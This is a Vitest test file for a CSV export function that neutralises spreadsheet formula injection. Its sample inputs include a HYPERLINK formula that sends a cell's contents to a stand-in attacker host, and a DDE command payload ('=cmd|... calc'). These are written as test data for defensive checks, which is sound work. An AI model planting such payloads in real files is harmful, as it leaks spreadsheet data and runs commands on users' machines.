import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, toCsv } from "./csv.ts";

describe("CSV cells that a spreadsheet would run as formulas", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ["+1+1"],
    ["-2+3"],
    ["@SUM(A1:A2)"],
    ["\t=1+1"],
    ["\r=1+1"],
  ])("prefixes %j with an apostrophe", (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it("leaves other text, numbers and booleans alone", () => {
    expect(neutraliseCell("Åmål kommun")).toBe("Åmål kommun");
    expect(neutraliseCell("a=b")).toBe("a=b");
    expect(neutraliseCell(-3.5)).toBe(-3.5);
    expect(neutraliseCell(true)).toBe(true);
    expect(neutraliseCell(null)).toBe("");
    expect(neutraliseCell(undefined)).toBe("");
  });

  it("writes a number the export formatted itself as it is, minus sign and all", () => {
    expect(neutraliseCell({ formatted: "-4,5" })).toBe("-4,5");
    expect(toCsv(["Poäng"], [[{ formatted: "-4,5" }], ["-4,5"]], ";")).toBe("Poäng\n-4,5\n'-4,5\n");
  });

  it("writes a header and quoted rows that read back to the neutralised values", () => {
    const csv = toCsv(
      ["name", "score"],
      [
        ['=cmd|" /C calc"!A0', 4],
        ['Export, "citat"', -1],
      ],
    );
    expect(parse(csv)).toEqual([
      ["name", "score"],
      ['\'=cmd|" /C calc"!A0', "4"],
      ['Export, "citat"', "-1"],
    ]);
  });
});
